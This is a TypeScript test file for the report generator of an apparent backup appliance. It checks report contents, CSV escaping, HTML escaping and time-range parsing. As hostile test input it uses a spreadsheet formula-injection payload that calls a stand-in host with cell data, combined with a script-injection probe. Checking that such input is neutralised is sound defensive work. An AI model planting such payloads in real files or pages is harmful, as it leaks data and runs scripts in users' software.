import { describe, expect, test } from "bun:test";
import { micros, parseTime, type Micros } from "../../../src/base/units.ts";
import type { CatalogEvent, Job } from "../../../src/catalog/catalog.ts";
import { reportSchema, REPORT_KINDS } from "../../../src/contract/reports.ts";
import { csvCell } from "../../../src/report/csv.ts";
import { makeReport, rangeOf, renderReport, reportMail, type ReportSources } from "../../../src/report/report.ts";
import { spansOf } from "../../../src/report/spans.ts";
import { SternwayError } from "../../../src/base/errors.ts";

const at = (text: string): Micros => parseTime(`2026-11-${text}Z`)!;
const NOW = at("20T12:00:00");
const RANGE = { from: at("19T00:00:00"), to: at("20T00:00:00") };
const EVIL = '=HYPERLINK("http://x/?"&A1)<script>alert(1)</script>';

let ids = 0;
function event(time: string, kind: string, subject = "default/offsite"): CatalogEvent {
  return { id: ++ids, time: at(time), level: "warning", kind, subject, message: `${kind} happened` };
}

function sourcesOf(events: CatalogEvent[] = [], jobs: Job[] = []): ReportSources {
  const within = (time: number, { from, to }: { from: number; to: number }): boolean => time >= from && time < to;
  return {
    appliance: "box",
    version: "1",
    zone: "Europe/Berlin",
    now: () => NOW,
    reserveBytes: 0,
    policyText: () => "every write for 48h",
    volumes: () => [
      {
        name: EVIL,
        vault: "default",
        sizeBytes: 2 ** 30,
        createdAt: at("01T00:00:00"),
        createdLsn: 1 as never,
        lastLsn: 9 as never,
        lastWriteAt: at("19T23:00:00"),
        lastFlushLsn: 9 as never,
        attached: 1,
        bookmarkCount: 0,
      },
    ],
    retention: async () => ({
      horizon: { lsn: 1 as never, time: at("10T00:00:00") },
      points: [{ lsn: 1, time: at("05T12:00:00"), why: "daily" }],
      lockMicros: 7 * 86_400e6,
      now: NOW,
      clockAheadMicros: 0,
    }),
    holds: () => [],
    vaults: async () => [
      { name: "default", state: "writable", encrypted: true, volumes: [EVIL], volumeCount: 1 },
      { name: "cold", state: "locked", reason: "it waits for its key", volumes: [], volumeCount: 3 },
    ],
    tiers(vault) {
      if (vault === "cold") throw new SternwayError("unavailable", "vault cold is locked");
      const tier = {
        vault,
        name: "offsite",
        url: "file:///x",
        mode: "continuous",
        rpoSeconds: 5,
        state: "online",
      } as const;
      return [
        { ...tier, reachedLsn: 9, lagSeconds: 1, lagBytes: 0, objectsPut: 0, bytesPut: 0, attempts: 0, failures: 0 },
      ];
    },
    scrub: () => ({ cycleDays: 30, vaults: [] }),
    events: ({ kinds, limit, ...range }) =>
      events.filter(({ time, kind }) => within(time, range) && (!kinds || kinds.includes(kind))).slice(-limit),
    jobs: (range) => jobs.filter(({ startedAt }) => within(startedAt, range)),
    growth: { add() {}, samples: () => [] },
    accounts: () => [
      { name: "ann", role: "administrator", signsInBy: "password", secondFactor: false, signedInAt: undefined },
    ],
  };
}

const rowsOf = async (kind: (typeof REPORT_KINDS)[number], title: string, sources: ReportSources) =>
  (await makeReport(kind, RANGE, sources)).sections.find((section) => section.title === title)!.rows;

describe("makeReport()", () => {
  test.each([...REPORT_KINDS])(
    "%s is of the contract's shape, in every format, with a vault that is locked",
    async (kind) => {
      const report = await makeReport(kind, RANGE, sourcesOf([event("19T10:00:00", "damage")]));
      expect(reportSchema.parse(JSON.parse(renderReport(report, "json", "UTC")))).toEqual(report);
      expect(renderReport(report, "csv", "UTC")).toContain(report.title);
      expect(renderReport(report, "html", "UTC")).toContain(`<h1>${report.title}</h1>`);
      expect(report.findings.length).toBeGreaterThan(0);
    },
  );

  test("protection: objectives missed, by tier, with times that reach into and out of the range", async () => {
    const sources = sourcesOf([
      event("18T22:00:00", "tier-lagging"),
      event("19T01:00:00", "tier-caught-up"),
      event("19T10:00:00", "tier-lagging"),
      event("19T10:00:00", "tier-lagging", "default/other"),
      event("19T10:30:00", "tier-caught-up"),
      event("19T23:00:00", "tier-offline"),
      event("20T05:00:00", "tier-online"),
    ]);
    const [tier] = await rowsOf("protection", "Tiers and their recovery point objectives", sources);
    expect(tier).toMatchObject({ tier: "offsite", misses: 2, missedSeconds: 5_400, awaySeconds: 3_600 });
    // Two and a half hours of twenty-four.
    expect(tier!["keptPercent"]).toBe(89.6);
    const missed = await rowsOf("protection", "Objectives missed", sources);
    expect(
      missed.filter(({ subject }) => subject === "default/offsite").map(({ from, isOpen }) => [from, isOpen]),
    ).toEqual([
      ["2026-11-19T00:00:00.000000Z", false],
      ["2026-11-19T10:00:00.000000Z", false],
      ["2026-11-19T23:00:00.000000Z", true],
    ]);
  });

  test("protection: gaps are stops, and crashes from the last that was heard", async () => {
    const sources = sourcesOf([
      event("01T00:00:00", "started", "appliance"),
      event("19T03:00:00", "stopped", "appliance"),
      event("19T04:00:00", "started", "appliance"),
      event("19T05:00:00", "volume-created", "web1"),
      event("19T07:00:00", "started", "appliance"),
    ]);
    const gaps = await rowsOf("protection", "Gaps", sources);
    expect(gaps.map(({ from, seconds }) => [from, seconds])).toEqual([
      ["2026-11-19T03:00:00.000000Z", 3_600],
      ["2026-11-19T05:00:00.000000Z", 7_200],
    ]);
  });

  test("protection: says how far back a volume goes, and which vault is not there", async () => {
    const sources = sourcesOf();
    const [row] = await rowsOf("protection", "Volumes", sources);
    expect(row).toMatchObject({
      oldest: "2026-11-05T12:00:00.000000Z",
      everyWriteFrom: "2026-11-10T00:00:00.000000Z",
      reachDays: 15,
    });
    const { findings } = await makeReport("protection", RANGE, sources);
    expect(findings[0]).toEqual({ level: "bad", text: "Vault cold with 3 volumes is locked: it waits for its key." });
  });

  test("compliance: names administrators without a second factor", async () => {
    const { findings } = await makeReport("compliance", RANGE, sourcesOf());
    expect(findings.map(({ text }) => text)).toContain("1 administrator without a second factor: ann.");
  });
});

describe("CSV", () => {
  test("begins no formula with what others wrote, and leaves numbers alone", async () => {
    for (const text of ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "  =1", "＝1", "\u0000=1"]) {
      const cell = csvCell(text).replace(/^"/, "");
      expect([text, cell[0]]).toEqual([text, "'"]);
    }
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell("2026-11-20T00:00:00Z")).toBe("2026-11-20T00:00:00Z");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell("two\r\nlines")).toBe("two lines");
    const csv = renderReport(await makeReport("protection", RANGE, sourcesOf()), "csv", "UTC");
    expect(csv).not.toMatch(/(^|,)"?=/m);
    expect(csv).toContain("'=HYPERLINK");
  });
});

describe("HTML", () => {
  test("escapes names, holds no script, and loads nothing from elsewhere", async () => {
    for (const kind of REPORT_KINDS) {
      const page = renderReport(await makeReport(kind, RANGE, sourcesOf()), "html", "Europe/Berlin");
      expect(page).not.toContain("<script");
      expect(page).not.toMatch(/(?:src|href|url\()\s*=?\s*["'(]?\s*(?:https?:|\/\/)/i);
      expect(page).toContain("default-src 'none'");
    }
    const page = renderReport(await makeReport("protection", RANGE, sourcesOf()), "html", "Europe/Berlin");
    expect(page).toContain("&lt;script&gt;");
    // 23:00 UTC is midnight in Berlin.
    expect(page).toContain("2026-11-20 00:00:00");
  });

  test("draws a chart of what grew", async () => {
    const rows = [0, 1, 2].map((i) => ({
      id: i,
      time: micros(RANGE.from + i * 3_600e6),
      rhythm: "hour" as const,
      kind: "vault" as const,
      name: EVIL,
      storedBytes: 1000 * (i + 1),
      liveBytes: null,
      freeBytes: 5000 - i,
      totalBytes: 10_000,
      writtenBytes: null,
    }));
    const growth = { add() {}, samples: ({ kind }: { kind: string }) => (kind === "vault" ? rows : []) };
    const page = renderReport(await makeReport("growth", RANGE, { ...sourcesOf(), growth }), "html", "UTC");
    expect(page).toMatch(/<polyline\s+points="/);
    expect(page).not.toContain("<script");
    expect(page).not.toContain("NaN");
  });
});

test("reportMail() carries the page and the tables", async () => {
  const mail = reportMail(await makeReport("restores", RANGE, sourcesOf()), "UTC");
  expect(mail.subject).toBe("Restores, 2026-11-19 to 2026-11-20");
  expect(mail.attachments.map(({ name }) => name)).toEqual(["sternway-restores-2026-11-20.csv"]);
});

describe("rangeOf()", () => {
  test("takes times, ages and defaults", () => {
    expect(rangeOf({}, NOW)).toEqual({ from: micros(NOW - 86_400e6), to: NOW });
    expect(rangeOf({ from: "-7d" }, NOW)).toEqual({ from: micros(NOW - 7 * 86_400e6), to: NOW });
    expect(rangeOf({ from: "2026-11-19T01:00:00+01:00", to: "2026-11-20T00:00:00Z" }, NOW)).toEqual(RANGE);
  });

  test("refuses what is no time, and an end before the beginning", () => {
    for (const wanted of [
      { from: "yesterday" },
      { from: "-1x" },
      { from: "now" },
      { to: "2026-13-01T00:00:00Z" },
      { from: "-9999w" },
    ])
      expect(() => rangeOf(wanted, NOW)).toThrow(expect.objectContaining({ kind: "invalid" }));
  });
});

test("spansOf() counts a beginning that is told twice once, and leaves out what is over before the range", () => {
  const events = [
    event("18T01:00:00", "tier-lagging"),
    event("18T02:00:00", "tier-caught-up"),
    event("19T01:00:00", "tier-lagging"),
    event("19T02:00:00", "tier-lagging"),
    event("19T03:00:00", "tier-caught-up"),
    event("19T04:00:00", "tier-caught-up"),
  ];
  const spans = spansOf(events, { begin: ["tier-lagging"], end: ["tier-caught-up"] }, RANGE);
  expect(spans.map(({ from, to }) => (to - from) / 3_600e6)).toEqual([2]);
});
